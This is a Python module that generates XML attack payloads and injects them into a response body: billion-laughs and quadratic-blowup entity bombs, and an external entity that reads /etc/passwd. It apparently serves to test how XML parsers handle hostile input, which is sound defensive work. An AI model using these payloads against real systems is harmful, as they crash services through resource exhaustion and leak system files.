"""XML that explodes when its entities are expanded, or that reaches for files."""

import re

LEVELS, FOLD = 9, 10
LONG, TIMES = 100_000, 10_000


def entities(kind: str) -> str:
    if kind == "laughs":
        lines = ['<!ENTITY e0 "ha">']
        lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * FOLD}">' for n in range(1, LEVELS + 1)]
        return "\n".join(lines) + f'\n<!ENTITY bomb "&e{LEVELS};">'
    if kind == "quadratic":
        return f'<!ENTITY bomb "{"a" * LONG}">'
    if kind == "external":
        return '<!ENTITY bomb SYSTEM "file:///etc/passwd">'
    raise ValueError(f"no bomb {kind!r}")


def bomb(kind: str, body: bytes) -> bytes:
    """The answer with a bomb in its first value, or a document of its own where the answer is no XML."""
    text = body.decode("utf-8-sig", "replace")
    found = re.search(r"<([A-Za-z_]\w*)", text)
    root = found[1] if found else "answer"
    use = "&bomb;" * (TIMES if kind == "quadratic" else 1)
    document = text[found.start() :] if found else "<answer>0</answer>"
    # External entities are not allowed in attributes.
    value = r"(>)([^<>\s][^<>]*)(</)" if kind == "external" else r'(="|>)([^<>"\s][^<>"]*)("|</)'
    armed, count = re.subn(value, lambda match: match[1] + use + match[3], document, count=1)
    if not count:
        armed = re.sub(r"/?>", f">{use}</{root}>", document, count=1)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [\n{entities(kind)}\n]>\n{armed}'.encode()
